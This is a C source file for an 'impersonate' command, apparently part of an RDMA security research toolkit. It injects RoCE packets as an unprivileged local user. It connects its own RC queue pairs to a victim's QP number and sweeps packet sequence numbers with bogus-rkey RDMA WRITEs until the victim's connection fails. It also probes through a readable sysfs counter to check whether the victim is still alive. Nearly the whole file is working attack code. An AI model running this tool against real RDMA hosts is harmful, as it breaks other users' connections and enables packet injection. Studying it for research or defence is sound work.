/* SPDX-License-Identifier: MIT */
/*
 * impersonate (NeVerMore §4.1): packet injection by an unprivileged local
 * user through plain verbs. The attacker uses the RDMA device, hence the GID,
 * of the victim's legitimate peer and connects its own RC QPs to the victim's
 * QPN: RoCE packets carry no source QPN, so the victim cannot tell them from
 * the peer's. Only the PSN is unknown. Each attacker QP is connected with a
 * different starting PSN and sends a window of RDMA WRITEs with a bogus rkey;
 * the one whose PSN the victim expects moves the victim's QP to the error
 * state. rxe lets a QP run at most 128 PSNs ahead of its last ACK, and the
 * ACKs go to the real peer, so every QP is recycled (error, reset,
 * reconnect) after each window.
 *
 * Whether the victim still lives is observable without privilege: the victim
 * ACKs every duplicate (a PSN behind the one it expects) to the peer, i.e. to
 * our own device, whose receive counter anyone may read. Of the two PSNs p and
 * p + 2^23 exactly one is behind, so a live victim answers a pair of probes
 * with at least one packet and a dead one with none.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <infiniband/verbs.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "common/attack.h"
#include "imp_cli.h"
#include "qp_table.h"
#include "sweep_plan.h"

#define IMP_PAYLOAD 8u
#define IMP_MAX_PEERS 16u
#define IMP_WATCH_INTERVAL 0.01  /* seconds between two looks at the peer */
#define IMP_PROBE_INTERVAL 0.1   /* seconds between two liveness probes */
#define IMP_PROBE_WAIT 0.2       /* seconds to wait for the victim's ACK */
#define IMP_PROBES 2             /* probe QPs, after the sweeping ones */
#define IMP_DRAIN_TIMEOUT 5.0    /* seconds to wait for flushed WQEs */
#define IMP_SEND_TIMEOUT 5.0     /* seconds for rxe to send a posted window */

struct imp_qp {
	struct ibv_qp *qp;
	uint32_t posted;  /* WRs in its send queue, never acknowledged */
	uint32_t psn;     /* the first one's PSN */
	bool live;        /* out of RESET */
};

struct imp {
	const struct imp_opts *o;
	struct ibv_context *ctx;
	struct ibv_pd *pd;
	struct ibv_cq *cq;
	int cq_size;
	struct imp_qp *qps;
	uint32_t *own_qpns;  /* sorted, to tell our QPs from the peer's */
	uint8_t port;
	enum ibv_mtu mtu;
	union ibv_gid dgid;
	uint32_t src_ip;
	int dev_index;
	int rcvd_fd;         /* DEV's hw_counters/rcvd_pkts, or -1 */
	struct ibv_send_wr *wrs;
	struct ibv_sge sge;
	uint8_t payload[IMP_PAYLOAD];
	/* results */
	uint64_t packets, probes, flushed;
	uint64_t send_waits;  /* windows rxe had not sent yet when their QP was due for recycling */
	double post_s, recycle_s, send_wait_s;
};

struct imp_peers {
	size_t n;
	struct qp_row row[IMP_MAX_PEERS];
};

static volatile sig_atomic_t interrupted;

static void on_signal(int sig)
{
	(void)sig;
	interrupted = 1;
}

static bool gid_is_ipv4(const union ibv_gid *g, uint32_t *ip)
{
	static const uint8_t prefix[12] = { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff };

	if (memcmp(g->raw, prefix, sizeof(prefix)) != 0)
		return false;
	*ip = (uint32_t)g->raw[12] << 24 | (uint32_t)g->raw[13] << 16 | (uint32_t)g->raw[14] << 8 | g->raw[15];
	return true;
}

/* The source GID: the one asked for, or the first RoCE v2 IPv4 one. */
static int pick_gid(struct imp *a, int tbl_len, uint32_t *index)
{
	const struct imp_opts *o = a->o;

	for (int i = o->have_gid ? (int)o->gid_index : 0; i < tbl_len; i++) {
		struct ibv_gid_entry e;

		if (ibv_query_gid_ex(a->ctx, a->port, (uint32_t)i, &e, 0) != 0) {
			if (o->have_gid)
				break;
			continue;
		}
		if (gid_is_ipv4(&e.gid, &a->src_ip) && (o->have_gid || e.gid_type == IBV_GID_TYPE_ROCE_V2)) {
			*index = (uint32_t)i;
			return 0;
		}
		if (o->have_gid)
			break;
	}
	if (o->have_gid)
		fprintf(stderr, "%s impersonate: GID %u of %s is not an IPv4 RoCE GID\n", PROG, o->gid_index,
			ibv_get_device_name(a->ctx->device));
	else
		fprintf(stderr, "%s impersonate: %s has no RoCE v2 IPv4 GID\n", PROG,
			ibv_get_device_name(a->ctx->device));
	return RSEC_E_NODEV;
}

static int cmp_u32(const void *x, const void *y)
{
	uint32_t a = *(const uint32_t *)x, b = *(const uint32_t *)y;
	return (a > b) - (a < b);
}

/* The sweeping QPs and the probes' (IMP_PROBES more), and their QPNs sorted: ours, never targets. */
static int imp_create_qps(struct imp *a)
{
	const struct imp_opts *o = a->o;

	for (uint32_t i = 0; i < o->qps + IMP_PROBES; i++) {
		struct ibv_qp_init_attr ia = {
			.send_cq = a->cq, .recv_cq = a->cq, .qp_type = IBV_QPT_RC, .sq_sig_all = 0,
			.cap = { .max_send_wr = o->window, .max_recv_wr = 1, .max_send_sge = 1,
				 .max_recv_sge = 1, .max_inline_data = IMP_PAYLOAD },
		};
		if (!(a->qps[i].qp = ibv_create_qp(a->pd, &ia))) {
			fprintf(stderr, "%s impersonate: QP %u of %u: ibv_create_qp: %s\n", PROG, i + 1,
				o->qps + IMP_PROBES, strerror(errno));
			return RSEC_E_VERBS;
		}
		a->own_qpns[i] = a->qps[i].qp->qp_num;
	}
	qsort(a->own_qpns, o->qps + IMP_PROBES, sizeof(*a->own_qpns), cmp_u32);
	return 0;
}

/* The same chain of WRs is posted for every job; only its length changes. */
static void imp_chain_wrs(struct imp *a)
{
	const struct imp_opts *o = a->o;

	memcpy(a->payload, "\xde\xad\xbe\xef\xde\xad\xbe\xef", IMP_PAYLOAD);
	a->sge.addr = (uintptr_t)a->payload;
	a->sge.length = IMP_PAYLOAD;
	for (uint32_t i = 0; i < o->window; i++) {
		struct ibv_send_wr *w = &a->wrs[i];

		w->sg_list = &a->sge;
		w->num_sge = 1;
		w->send_flags = IBV_SEND_INLINE;
		w->opcode = o->send ? IBV_WR_SEND : IBV_WR_RDMA_WRITE;
		w->wr.rdma.remote_addr = o->va;
		w->wr.rdma.rkey = o->rkey;
		w->next = i + 1 < o->window ? &a->wrs[i + 1] : NULL;
	}
}

static int imp_open(struct imp *a, uint32_t *gid_index)
{
	const struct imp_opts *o = a->o;
	struct ibv_port_attr pa;
	struct ibv_device_attr da;
	uint32_t dst = htonl(o->dst_ip);

	if (!(a->ctx = open_device(o->device)))
		return RSEC_E_NODEV;
	a->port = 1;
	a->dev_index = ibv_get_device_index(a->ctx->device);
	if (ibv_query_port(a->ctx, a->port, &pa) != 0 || ibv_query_device(a->ctx, &da) != 0) {
		fprintf(stderr, "%s impersonate: cannot query %s: %s\n", PROG, ibv_get_device_name(a->ctx->device),
			strerror(errno));
		return RSEC_E_VERBS;
	}
	a->mtu = pa.active_mtu;
	RSEC_GUARD(pick_gid(a, pa.gid_tbl_len, gid_index));
	memset(&a->dgid, 0, sizeof(a->dgid));
	a->dgid.raw[10] = a->dgid.raw[11] = 0xff;
	memcpy(&a->dgid.raw[12], &dst, 4);

	/* One flushed completion per WQE when a QP is recycled. */
	a->cq_size = da.max_cqe < 32768 ? da.max_cqe : 32768;
	if ((uint64_t)a->cq_size <= o->window) {
		fprintf(stderr, "%s impersonate: %s's CQs are too small for a window of %u\n", PROG,
			ibv_get_device_name(a->ctx->device), o->window);
		return RSEC_E_LIMIT;
	}
	if (!(a->pd = ibv_alloc_pd(a->ctx)) || !(a->cq = ibv_create_cq(a->ctx, a->cq_size, NULL, NULL, 0))) {
		fprintf(stderr, "%s impersonate: cannot allocate PD/CQ: %s\n", PROG, strerror(errno));
		return RSEC_E_VERBS;
	}
	/* What the CQ really holds, less one: a full rxe CQ drops the newest entry. */
	a->cq_size = a->cq->cqe - 1;
	a->qps = calloc(o->qps + IMP_PROBES, sizeof(*a->qps));
	a->own_qpns = calloc(o->qps + IMP_PROBES, sizeof(*a->own_qpns));
	a->wrs = calloc(o->window, sizeof(*a->wrs));
	if (!a->qps || !a->own_qpns || !a->wrs)
		return RSEC_E_NOMEM;
	RSEC_GUARD(imp_create_qps(a));
	imp_chain_wrs(a);
	return 0;
}

static void imp_close(struct imp *a)
{
	if (a->rcvd_fd >= 0)
		close(a->rcvd_fd);
	if (a->qps)
		for (uint32_t i = 0; i < a->o->qps + IMP_PROBES; i++)
			if (a->qps[i].qp)
				ibv_destroy_qp(a->qps[i].qp);
	if (a->cq)
		ibv_destroy_cq(a->cq);
	if (a->pd)
		ibv_dealloc_pd(a->pd);
	if (a->ctx)
		ibv_close_device(a->ctx);
	free(a->qps);
	free(a->own_qpns);
	free(a->wrs);
}

static int modify(struct imp_qp *q, struct ibv_qp_attr *attr, int mask, const char *what)
{
	int err = ibv_modify_qp(q->qp, attr, mask);

	if (err) {
		fprintf(stderr, "%s impersonate: QP 0x%x to %s: %s\n", PROG, q->qp->qp_num, what, strerror(err));
		return RSEC_E_VERBS;
	}
	return 0;
}

/* How many packets of q's window rxe has sent: its requester's next PSN says. */
static int window_sent(struct imp_qp *q, uint32_t *sent)
{
	struct ibv_qp_attr attr;
	struct ibv_qp_init_attr init;
	int err = ibv_query_qp(q->qp, &attr, IBV_QP_SQ_PSN, &init);

	if (err) {
		fprintf(stderr, "%s impersonate: QP 0x%x: ibv_query_qp: %s\n", PROG, q->qp->qp_num, strerror(err));
		return RSEC_E_VERBS;
	}
	*sent = sweep_window_sent(q->psn, q->posted, attr.sq_psn);
	return 0;
}

/*
 * Wait until rxe has sent q's whole window. The doorbell call usually sends
 * it, but not always: rxe stops a QP's requester while 64 of its packets are
 * still in the kernel's network path, or finds it busy elsewhere, and sends
 * the rest later from a tasklet. Recycling before then would flush them unsent.
 */
static int wait_window_sent(struct imp *a, struct imp_qp *q)
{
	double t0 = now_s();
	uint32_t sent;

	RSEC_GUARD(window_sent(q, &sent));
	if (sent == q->posted)
		return 0;
	a->send_waits++;
	while (sent != q->posted) {
		if (now_s() - t0 > IMP_SEND_TIMEOUT) {
			if (sent == SWEEP_NOT_IN_WINDOW)
				fprintf(stderr, "%s impersonate: QP 0x%x: rxe's next PSN is outside the window of %u "
					"from 0x%06x\n", PROG, q->qp->qp_num, q->posted, q->psn);
			else
				fprintf(stderr, "%s impersonate: QP 0x%x: rxe sent %u of %u packets in %.0f s\n", PROG,
					q->qp->qp_num, sent, q->posted, IMP_SEND_TIMEOUT);
			return RSEC_E_TIMEOUT;
		}
		usleep(100);
		RSEC_GUARD(window_sent(q, &sent));
	}
	a->send_wait_s += now_s() - t0;
	return 0;
}

/*
 * Back to RESET through the error state, once rxe has sent every posted
 * packet: it then completes (flushes) every WQE it never got an ACK for, so
 * the send queue is empty before the reset.
 */
static int recycle(struct imp *a, uint32_t first, uint32_t count)
{
	struct ibv_qp_attr err_attr = { .qp_state = IBV_QPS_ERR }, reset = { .qp_state = IBV_QPS_RESET };
	uint64_t want = 0, got = 0;
	double deadline;
	struct ibv_wc wc[64];

	for (uint32_t i = first; i < first + count; i++)
		if (a->qps[i].live && a->qps[i].posted)
			RSEC_GUARD(wait_window_sent(a, &a->qps[i]));
	for (uint32_t i = first; i < first + count; i++) {
		struct imp_qp *q = &a->qps[i];
		if (q->live && q->posted)
			RSEC_GUARD(modify(q, &err_attr, IBV_QP_STATE, "ERR"));
		want += q->posted;
	}
	deadline = now_s() + IMP_DRAIN_TIMEOUT;
	while (got < want) {
		int n = ibv_poll_cq(a->cq, 64, wc);
		if (n < 0) {
			fprintf(stderr, "%s impersonate: ibv_poll_cq failed\n", PROG);
			return RSEC_E_VERBS;
		}
		got += (uint64_t)n;
		if (n == 0 && now_s() > deadline) {
			fprintf(stderr, "%s impersonate: only %llu of %llu WQEs were flushed\n", PROG,
				(unsigned long long)got, (unsigned long long)want);
			return RSEC_E_TIMEOUT;
		}
	}
	a->flushed += got;
	for (uint32_t i = first; i < first + count; i++) {
		struct imp_qp *q = &a->qps[i];
		if (q->live)
			RSEC_GUARD(modify(q, &reset, IBV_QP_STATE, "RESET"));
		q->live = false;
		q->posted = 0;
	}
	return 0;
}

/* RESET -> RTS aimed at the victim's QPN, sending from job->psn on. */
static int connect_qp(struct imp *a, struct imp_qp *q, uint32_t gid_index, const struct sweep_job *job)
{
	struct ibv_qp_attr init = { .qp_state = IBV_QPS_INIT, .pkey_index = 0, .port_num = a->port },
			   rtr = {
				   .qp_state = IBV_QPS_RTR, .path_mtu = a->mtu, .dest_qp_num = job->qpn,
				   .rq_psn = 0, .max_dest_rd_atomic = 1, .min_rnr_timer = 12,
				   .ah_attr = { .is_global = 1, .port_num = a->port,
						.grh = { .dgid = a->dgid, .sgid_index = (uint8_t)gid_index,
							 .hop_limit = 64 } },
			   },
			   /* timeout 0: no retransmission timer, the window is sent once. */
			   rts = { .qp_state = IBV_QPS_RTS, .sq_psn = job->psn, .timeout = 0, .retry_cnt = 0,
				   .rnr_retry = 0, .max_rd_atomic = 1 };

	RSEC_GUARD(modify(q, &init, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS, "INIT"));
	q->live = true;
	RSEC_GUARD(modify(q, &rtr, IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN | IBV_QP_RQ_PSN |
			  IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER, "RTR"));
	return modify(q, &rts, IBV_QP_STATE | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY |
		      IBV_QP_SQ_PSN | IBV_QP_MAX_QP_RD_ATOMIC, "RTS");
}

/* One doorbell for the job's window; rxe sends most of it in the call (see wait_window_sent). */
static int post_window(struct imp *a, struct imp_qp *q, const struct sweep_job *job)
{
	struct ibv_send_wr *bad = NULL;
	struct ibv_send_wr *last = &a->wrs[job->len - 1], *saved = last->next;
	int err;

	last->next = NULL;
	err = ibv_post_send(q->qp, a->wrs, &bad);
	last->next = saved;
	if (err) {
		fprintf(stderr, "%s impersonate: ibv_post_send on QP 0x%x: %s\n", PROG, q->qp->qp_num, strerror(err));
		return RSEC_E_VERBS;
	}
	q->posted = job->len;
	q->psn = job->psn;
	return 0;
}

/* DEV's count of received packets: sysfs, readable by anyone. */
static void rcvd_open(struct imp *a)
{
	char path[160];

	snprintf(path, sizeof(path), "/sys/class/infiniband/%s/ports/%u/hw_counters/rcvd_pkts",
		 ibv_get_device_name(a->ctx->device), a->port);
	a->rcvd_fd = open(path, O_RDONLY | O_CLOEXEC);
}

static bool rcvd_read(const struct imp *a, uint64_t *v)
{
	char buf[32], *end;
	unsigned long long x;
	ssize_t n = pread(a->rcvd_fd, buf, sizeof(buf) - 1, 0);

	if (n <= 0)
		return false;
	buf[n] = '\0';
	errno = 0;
	x = strtoull(buf, &end, 10);
	if (errno || end == buf || (*end != '\n' && *end != '\0'))
		return false;
	*v = x;
	return true;
}

enum liveness { LIVE_UNKNOWN, LIVE_YES, LIVE_NO };

/*
 * One packet at psn and one at psn + 2^23 from the probe QPs: one of them is
 * behind what the victim expects, and a live victim ACKs that duplicate to
 * our device. Other traffic to DEV can only make a dead victim look alive.
 */
static enum liveness probe(struct imp *a, uint32_t gid_index, uint32_t psn)
{
	const struct imp_opts *o = a->o;
	uint64_t before, after;
	double deadline;

	if (a->rcvd_fd < 0 || o->qpn_count != 1)
		return LIVE_UNKNOWN;
	if (recycle(a, o->qps, IMP_PROBES) != 0 || !rcvd_read(a, &before))
		return LIVE_UNKNOWN;
	for (uint32_t i = 0; i < IMP_PROBES; i++) {
		struct sweep_job job = { .qpn = o->qpn_first, .len = 1,
					 .psn = (psn + i * (SWEEP_PSN_SPACE / 2)) % SWEEP_PSN_SPACE };
		struct imp_qp *q = &a->qps[o->qps + i];

		if (connect_qp(a, q, gid_index, &job) != 0 || post_window(a, q, &job) != 0)
			return LIVE_UNKNOWN;
		a->probes++;
	}
	deadline = now_s() + IMP_PROBE_WAIT;
	do {
		if (!rcvd_read(a, &after))
			return LIVE_UNKNOWN;
		if (after != before)
			return LIVE_YES;
		usleep(1000);
	} while (now_s() < deadline);
	return LIVE_NO;
}

struct peer_filter {
	const struct imp *a;
	const struct imp_opts *o;
};

/* An RC QP on our device aimed at a victim QPN that is not one of ours: the legitimate peer. */
static bool is_peer(const struct qp_row *r, void *arg)
{
	const struct peer_filter *f = arg;

	if (!r->has_rqpn || (r->has_type && r->type != QP_TABLE_TYPE_RC))
		return false;
	if (r->rqpn < f->o->qpn_first || r->rqpn - f->o->qpn_first >= f->o->qpn_count)
		return false;
	return !bsearch(&r->lqpn, f->a->own_qpns, f->o->qps + IMP_PROBES, sizeof(uint32_t), cmp_u32);
}

enum peer_status { PEER_UP, PEER_ERR, PEER_GONE, PEER_UNKNOWN };

/* Look at the peers found at the start: has one failed or vanished? */
static enum peer_status peers_check(const struct imp *a, const struct imp_peers *start, uint32_t *which)
{
	struct peer_filter f = { a, a->o };
	struct imp_peers now;
	size_t total;

	if (qp_table_dump((uint32_t)a->dev_index, is_peer, &f, now.row, IMP_MAX_PEERS, &now.n, &total) != 0)
		return PEER_UNKNOWN;
	for (size_t i = 0; i < start->n; i++) {
		size_t j;
		for (j = 0; j < now.n && now.row[j].lqpn != start->row[i].lqpn; j++)
			;
		*which = start->row[i].lqpn;
		if (j == now.n)
			return PEER_GONE;
		if (now.row[j].has_state && now.row[j].state == QP_TABLE_STATE_ERR)
			return PEER_ERR;
	}
	return PEER_UP;
}

static const char *state_name(const struct qp_row *r)
{
	static const char *const names[] = { "RESET", "INIT", "RTR", "RTS", "SQD", "SQE", "ERR" };
	return r->has_state && r->state < 7 ? names[r->state] : "?";
}

struct imp_result {
	const char *stop;         /* why the sweep ended */
	bool victim_broken;       /* seen to stop answering, or its peer failed */
	const char *detected_by;  /* "probe", "peer-qp-error", "peer-qp-gone" */
	uint32_t peer_seen;       /* the peer QP that showed it */
	enum liveness alive_start, alive_end;
	double elapsed, break_s;
	uint64_t passes;
};

static void broken(struct imp_result *res, const char *by, double t)
{
	res->victim_broken = true;
	res->detected_by = by;
	res->break_s = t;
	res->stop = "victim-broken";
}

/* Between two rounds: is the victim still there? */
static bool victim_gone(struct imp *a, uint32_t gid_index, const struct imp_peers *peers, uint32_t psn,
			double t, double t0, struct imp_result *res, double *last_look, double *last_probe)
{
	if (peers->n && t - *last_look >= IMP_WATCH_INTERVAL) {
		enum peer_status st = peers_check(a, peers, &res->peer_seen);

		*last_look = t;
		if (st == PEER_ERR || st == PEER_GONE) {
			broken(res, st == PEER_ERR ? "peer-qp-error" : "peer-qp-gone", t - t0);
			return true;
		}
	}
	if (res->alive_start == LIVE_YES && t - *last_probe >= IMP_PROBE_INTERVAL) {
		*last_probe = t;
		/* Twice: one lost or late ACK must not end the attack. */
		if (probe(a, gid_index, psn) == LIVE_NO && probe(a, gid_index, psn) == LIVE_NO) {
			broken(res, "probe", now_s() - t0);
			return true;
		}
	}
	return false;
}

/*
 * Round r for QPs g..g+cnt-1: recycle them, connect each to its job's QPN
 * and PSN, post its window. *psn gets the last job's first PSN.
 */
static int sweep_group(struct imp *a, uint32_t gid_index, const struct sweep_plan *plan, uint64_t r, uint32_t g,
		       uint32_t cnt, uint32_t *psn)
{
	double t1 = now_s(), t2;
	int rc;

	if ((rc = recycle(a, g, cnt)) != 0)
		return rc;
	t2 = now_s();
	a->recycle_s += t2 - t1;
	for (uint32_t i = g; i < g + cnt; i++) {
		struct sweep_job job;
		if (!sweep_plan_job(plan, r * a->o->qps + i, &job))
			break;
		if ((rc = connect_qp(a, &a->qps[i], gid_index, &job)) != 0)
			return rc;
		t1 = now_s();
		a->recycle_s += t1 - t2;
		if ((rc = post_window(a, &a->qps[i], &job)) != 0)
			return rc;
		t2 = now_s();
		a->post_s += t2 - t1;
		a->packets += job.len;
		*psn = job.psn;
	}
	return 0;
}

static int sweep(struct imp *a, uint32_t gid_index, const struct sweep_plan *plan, const struct imp_peers *peers,
		 struct imp_result *res)
{
	const struct imp_opts *o = a->o;
	/* Recycle as many QPs at once as the CQ has room for their flushed WQEs. */
	uint32_t group = (uint32_t)(a->cq_size / o->window);
	uint64_t per_pass = (uint64_t)plan->psn_count * plan->qpn_count;
	double t0 = now_s(), last_look = t0, last_probe = t0;
	struct progress prog;
	uint32_t psn = o->psn_start;
	int rc = 0;

	group = group < 1 ? 1 : group > o->qps ? o->qps : group;
	progress_start(&prog, "psn sweep", o->passes ? per_pass * o->passes : per_pass);
	if (o->progress && !prog.on) {
		prog.on = true;
		progress_update(&prog, 0);
	}
	res->stop = "sweep-done";
	for (uint64_t pass = 0; o->passes == 0 || pass < o->passes; pass++) {
		for (uint64_t r = 0; r < plan->rounds; r++) {
			for (uint32_t g = 0; g < o->qps; g += group) {
				uint32_t cnt = o->qps - g < group ? o->qps - g : group;
				if ((rc = sweep_group(a, gid_index, plan, r, g, cnt, &psn)) != 0)
					goto out;
			}
			progress_update(&prog, o->passes ? a->packets : a->packets % per_pass);
			double t = now_s();
			if (interrupted) {
				res->stop = "interrupted";
				goto out;
			}
			if (o->max_time > 0 && t - t0 >= o->max_time) {
				res->stop = "time-limit";
				goto out;
			}
			if (victim_gone(a, gid_index, peers, psn, t, t0, res, &last_look, &last_probe))
				goto out;
		}
		res->passes = pass + 1;
	}
out:
	progress_end(&prog);
	res->elapsed = now_s() - t0;
	if (rc)
		res->stop = "error";
	/* Leave nothing in flight. */
	if (recycle(a, 0, o->qps + IMP_PROBES) != 0 && rc == 0)
		rc = RSEC_E_VERBS;
	return rc;
}

static const char *liveness_name(enum liveness l)
{
	return l == LIVE_YES ? "yes" : l == LIVE_NO ? "no" : "unknown";
}

/* The rates and projections both reports give. */
struct imp_rates {
	double pps, full, range;
};

static void report_json(const struct imp *a, uint32_t gid_index, const struct imp_peers *peers,
			const struct imp_result *res, const struct imp_rates *q, int rc)
{
	const struct imp_opts *o = a->o;
	char s1[16], s2[16];
	struct json j;

	json_begin(&j, "impersonate");
	json_str(&j, "device", ibv_get_device_name(a->ctx->device));
	json_u64(&j, "gid_index", gid_index);
	json_str(&j, "src", ipv4_str(a->src_ip, s1));
	json_str(&j, "dst", ipv4_str(o->dst_ip, s2));
	json_str(&j, "op", o->send ? "send" : "write");
	json_hex(&j, "qpn_first", o->qpn_first);
	json_u64(&j, "qpn_count", o->qpn_count);
	json_hex(&j, "psn_first", o->psn_start);
	json_u64(&j, "psn_count", o->psn_count);
	json_u64(&j, "qps", o->qps);
	json_u64(&j, "window", o->window);
	json_u64(&j, "passes", res->passes);
	json_u64(&j, "packets", a->packets);
	json_u64(&j, "probe_packets", a->probes);
	json_u64(&j, "flushed", a->flushed);
	json_num(&j, "elapsed_s", res->elapsed);
	json_num(&j, "post_s", a->post_s);
	json_num(&j, "recycle_s", a->recycle_s);
	json_u64(&j, "send_waits", a->send_waits);
	json_num(&j, "send_wait_s", a->send_wait_s);
	json_num(&j, "pps", q->pps);
	json_num(&j, "full_sweep_s", q->full);
	json_num(&j, "range_sweep_s", q->range);
	json_str(&j, "victim_alive_at_start", liveness_name(res->alive_start));
	json_str(&j, "victim_alive_at_end", liveness_name(res->alive_end));
	if (peers->n) {
		json_hex(&j, "peer_qpn", peers->row[0].lqpn);
		if (peers->row[0].has_sq_psn)
			json_hex(&j, "peer_sq_psn_at_start", peers->row[0].sq_psn);
	}
	json_str(&j, "stop", res->stop);
	json_boolean(&j, "victim_broken", res->victim_broken);
	if (res->victim_broken) {
		json_str(&j, "detected_by", res->detected_by);
		json_num(&j, "break_s", res->break_s);
	}
	json_boolean(&j, "ok", rc == 0);
	json_end(&j);
}

static void report(const struct imp *a, uint32_t gid_index, const struct sweep_plan *plan,
		   const struct imp_peers *peers, const struct imp_result *res, int rc)
{
	const struct imp_opts *o = a->o;
	double pps = res->elapsed > 0 ? (double)a->packets / res->elapsed : 0.0;
	double full = sweep_projected_seconds(a->packets, res->elapsed, SWEEP_PSN_SPACE);
	double range = sweep_projected_seconds(a->packets, res->elapsed, (uint64_t)plan->psn_count * plan->qpn_count);

	if (o->json) {
		report_json(a, gid_index, peers, res, &(struct imp_rates){ pps, full, range }, rc);
		return;
	}
	printf("impersonate: sent %llu %s packet(s) in %.3f s = %.0f pkt/s (%u QPs x %u PSNs; posting %.3f s, "
	       "recycling %.3f s)\n", (unsigned long long)a->packets, o->send ? "SEND" : "RDMA WRITE (bad rkey)",
	       res->elapsed, pps, o->qps, o->window, a->post_s, a->recycle_s);
	if (a->send_waits)
		printf("rxe had not sent %llu window(s) when the doorbell returned: waited %.3f s for them\n",
		       (unsigned long long)a->send_waits, a->send_wait_s);
	if (full >= 0)
		printf("projected: full 2^24 PSN sweep %.1f s; this range (%u PSNs x %u QPNs) %.1f s\n", full,
		       o->psn_count, o->qpn_count, range);
	printf("victim answering: at start %s, at end %s\n", liveness_name(res->alive_start),
	       liveness_name(res->alive_end));
	printf("result: %s", res->stop);
	if (res->victim_broken && !strcmp(res->detected_by, "probe"))
		printf(" after %.3f s: the victim no longer acknowledges duplicates", res->break_s);
	else if (res->victim_broken)
		printf(" after %.3f s: peer QP 0x%x %s", res->break_s, res->peer_seen,
		       !strcmp(res->detected_by, "peer-qp-error") ? "is in the error state" : "disappeared");
	putchar('\n');
}

/* The peer's live QPs on our device, aimed at the victim; prints what it finds. */
static void find_peers(struct imp *a, struct imp_peers *peers)
{
	const struct imp_opts *o = a->o;
	struct peer_filter f = { a, o };
	size_t total, live = 0;
	int err = a->dev_index < 0 ? -ENODEV :
		  qp_table_dump((uint32_t)a->dev_index, is_peer, &f, peers->row, IMP_MAX_PEERS, &peers->n, &total);

	if (err)
		peers->n = 0;
	for (size_t i = 0; i < peers->n; i++)
		if (!peers->row[i].has_state || peers->row[i].state != QP_TABLE_STATE_ERR)
			peers->row[live++] = peers->row[i];
	peers->n = live;
	if (o->json)
		return;
	if (err)
		printf("peer: cannot read the QP table (%s)\n", strerror(-err));
	else if (!peers->n)
		printf("peer: no live QP on this device is connected to the victim\n");
	for (size_t i = 0; i < peers->n; i++)
		printf("peer: QP 0x%06x -> 0x%06x %s, sq_psn 0x%06x (watching it)\n", peers->row[i].lqpn,
		       peers->row[i].rqpn, state_name(&peers->row[i]), peers->row[i].sq_psn);
}

int impersonate_main(int argc, char *argv[])
{
	struct imp_opts o = {
		.psn_count = SWEEP_PSN_SPACE, .qps = 64, .window = IMP_MAX_WINDOW, .passes = 1, .watch = true,
	};
	struct imp a = { .o = &o, .rcvd_fd = -1 };
	struct imp_result res = { .stop = "error" };
	struct imp_peers peers = { 0 };
	struct sweep_plan plan;
	struct sigaction sa = { .sa_handler = on_signal };
	uint32_t gid_index = 0;
	char s1[16], s2[16];
	int rc;

	if ((rc = imp_parse_args(argc, argv, &o)) >= 0)
		return rc;
	if (!sweep_plan_init(&plan, o.psn_start, o.psn_count, o.qpn_first, o.qpn_count, o.window, o.qps)) {
		fprintf(stderr, "%s impersonate: impossible sweep\n", PROG);
		return 2;
	}
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGINT, &sa, NULL) != 0 || sigaction(SIGTERM, &sa, NULL) != 0)
		return 1;
	if ((rc = imp_open(&a, &gid_index)) != 0)
		goto out;
	if (!o.json)
		printf("impersonate: %s GID %u (%s) -> %s, QPN 0x%06x%s, PSNs 0x%06x + %u, %u QPs x %u per round, %s\n",
		       ibv_get_device_name(a.ctx->device), gid_index, ipv4_str(a.src_ip, s1), ipv4_str(o.dst_ip, s2),
		       o.qpn_first, o.qpn_count > 1 ? " and on" : "", o.psn_start, o.psn_count, o.qps, o.window,
		       o.send ? "SEND" : "RDMA WRITE with a bogus rkey");
	rcvd_open(&a);
	if (o.watch) {
		find_peers(&a, &peers);
		res.alive_start = probe(&a, gid_index, o.psn_start);
		if (!o.json && res.alive_start == LIVE_NO)
			printf("probe: the victim does not acknowledge duplicates: is QPN 0x%x connected to %s?\n",
			       o.qpn_first, ipv4_str(a.src_ip, s1));
		fflush(stdout);
	}
	rc = sweep(&a, gid_index, &plan, &peers, &res);
	if (rc == 0 && o.watch && !res.victim_broken)
		res.alive_end = probe(&a, gid_index, o.psn_start);
	report(&a, gid_index, &plan, &peers, &res, rc);
out:
	imp_close(&a);
	return rc == 0 ? 0 : 1;
}
